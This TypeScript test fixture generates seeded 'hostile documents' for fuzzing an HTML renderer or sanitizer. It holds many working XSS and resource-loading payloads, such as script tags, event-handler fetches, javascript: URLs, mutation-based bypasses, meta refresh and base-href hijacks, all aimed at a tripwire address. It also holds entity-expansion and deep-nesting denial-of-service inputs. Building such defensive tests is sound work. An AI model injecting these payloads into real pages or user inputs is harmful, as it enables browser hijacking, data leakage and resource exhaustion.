import { chanceFrom } from '../../papers/bed/random.ts'

type Dice = (most: number) => number

/** Pieces that would run, load, cover or break something, each in several spellings. `to` is an address that must never be asked. */
const PIECES: ((to: string, dice: Dice) => string)[] = [
  (to) => `<script>fetch('${to}/script')</script>`,
  (to) => `<ScRiPt src="${to}/src"></sCrIpT >`,
  (to) => `<img src=x onerror="fetch('${to}/onerror')">`,
  (to) => `<img src="${to}/img" srcset="${to}/set 2x">`,
  (to) => `<p onclick="fetch('${to}/click')" onmouseover=fetch('${to}/over')>Covered</p>`,
  (to) =>
    `<svg onload="fetch('${to}/svg')"><image href="${to}/image"/><script>fetch('${to}/in')</script><use href="${to}/use#a"/></svg>`,
  (to) => `<math><mtext><img src="${to}/math"></mtext></math>`,
  (to) => `<p style="background:url(${to}/css);background-image:image-set('${to}/set' 1x)">Styled</p>`,
  (to) => `<p style="behavior:url(${to}/b);-moz-binding:url('${to}/m');color:expression(alert(1))">Old</p>`,
  (to) => `<style>@import url(${to}/import); @font-face{font-family:x;src:url(${to}/font)} p{font-family:x}</style>`,
  (to) =>
    `<link rel=stylesheet href="${to}/link"><link rel=preload as=image href="${to}/preload"><link rel=dns-prefetch href="${to}">`,
  (to) => `<meta http-equiv="refresh" content="0;url=${to}/refresh"><base href="${to}/">`,
  (to) => `<meta http-equiv="content-security-policy" content="default-src *">`.replace('*', `${to} *`),
  (to) =>
    `<iframe src="${to}/frame"></iframe><iframe srcdoc="&lt;script&gt;fetch('${to}/srcdoc')&lt;/script&gt;"></iframe>`,
  (to) => `<object data="${to}/object"><embed src="${to}/embed"></object><applet code="${to}/a"></applet>`,
  (to) => `<video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay></audio>`,
  (to) => `<form action="${to}/form"><input autofocus onfocus="this.form.submit()"><button>Go</button></form>`,
  (to) =>
    `<a href="javascript:fetch('${to}/js')">one</a><a href="&#106;ava&#x0a;script:fetch('${to}/js2')">two</a><a href="data:text/html,<script>1</script>">three</a>`,
  (to) => `<a href="${to}/ping" ping="${to}/pinged">four</a><a href="//[broken">five</a><a href="http://a b/">six</a>`,
  (to) => `<noscript><p title="</noscript><img src=${to}/mutated onerror=fetch('${to}/x')>">Mutated</p></noscript>`,
  (to) => `<table background="${to}/table"><tr background="${to}/row"><td background="${to}/cell">cell</table>`,
  (to) => `<!--><img src=${to}/comment>--><![CDATA[<img src=${to}/cdata>]]><?xml-stylesheet href="${to}/pi"?>`,
  (to) => `<template><img src="${to}/template"></template><portal src="${to}/portal"></portal>`,
  (to) => `<details open ontoggle="fetch('${to}/toggle')"><summary>More</summary>Hidden</details>`,
  () => `<div style="position:fixed;inset:0;z-index:9999;background:#fff;width:1e9px">over</div>`,
  () => `<p style="font-size:1e9px;line-height:1e9;margin:-1e9px">large</p>`,
  () => `</body></html><html><body></div></td></table><p>after the end`,
  () => `<p>null\u0000byte \u0001\u0008\u000b\u001f control \u007f\ufffe\uffff signs</p>`,
  () => `<p>lone \ud800 and \udc00 surrogates \u202e right to left \u2066 isolated \u200f \ufeff</p>`,
  () => `<p>&#0;&#xd800;&#x110000;&#999999999999;&lt;script&gt;&amp;amp;&nosuch;&amp</p>`,
  () => `<p>${'&amp;'.repeat(3000)}</p>`,
  () => `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><p>&b;&b;</p>`,
  () =>
    `<table><tr><td colspan="1000000000" rowspan="1000000000">wide</td><td colspan="-1">x</td></tr><tr><th rowspan=0>y</table>`,
  () => `<table><colgroup><col style="width:1e9px" span="100000"></colgroup><tr><td>col</td></tr></table>`,
  () => `<ol start="999999999999999999999"><li>a</ol><ol start="-1e9"><li>b<ol start="NaN"><li>c</ol></ol>`,
  (_to, dice) => '<b><i><u><s>'.repeat(dice(60)),
  (_to, dice) => `${'<ul><li>'.repeat(dice(200))}deep`,
  (_to, dice) => `${'<table><tr><td>'.repeat(dice(60))}inner`,
  (_to, dice) => `${'<blockquote><div><span>'.repeat(dice(400))}quoted`,
  (_to, dice) => `<p>${'x'.repeat(dice(20_000))}</p>`,
  () => `<h1><h2><h3></h1>mixed</h3></h2><p><table><tr><p>misplaced</tr></table></p><li>alone</li><td>cell</td>`,
  () => `<hr class="page-break" style="break-after:page">`.repeat(3),
  () =>
    `<p id="x" class="cara-cover cara-masthead" style="text-align:center;color:#abc">Named</p><p id="x">twice</p><a href="#x">in</a>`,
]

const HEAVY: (() => string)[] = [
  () => `<p>${'word '.repeat(40_000)}</p>`,
  () => `<p>${'a'.repeat(200_000)}</p>`,
  () => `<table>${`<tr>${'<td>1</td>'.repeat(40)}</tr>`.repeat(150)}</table>`,
  () => `${'<div>'.repeat(30_000)}deep${'</div>'.repeat(30_000)}`,
  () => '<b>'.repeat(20_000),
  () => `<ul>${'<li>item</li>'.repeat(3000)}</ul>`,
  () => '<hr class="page-break">'.repeat(700),
]

/** So many hostile documents, the same ones each time. Every 25th is large. */
export function hostileDocuments(count: number, to: string, seed = 1): string[] {
  const chance = chanceFrom(seed)
  const dice: Dice = (most) => chance.int(1, most)
  return Array.from({ length: count }, (_, index) => {
    const pieces = Array.from({ length: 1 + dice(8) }, (__, at) => {
      // Each piece comes in its turn, so that all come often.
      const piece = at === 0 ? PIECES[index % PIECES.length]! : chance.pick(PIECES)
      return `${piece(to, dice)}${chance.maybe(0.4) ? '<p>Renewal of the policy.</p>' : ''}`
    })
    if (index % 25 === 24) pieces.push(HEAVY[Math.floor(index / 25) % HEAVY.length]!())
    return pieces.join('')
  })
}
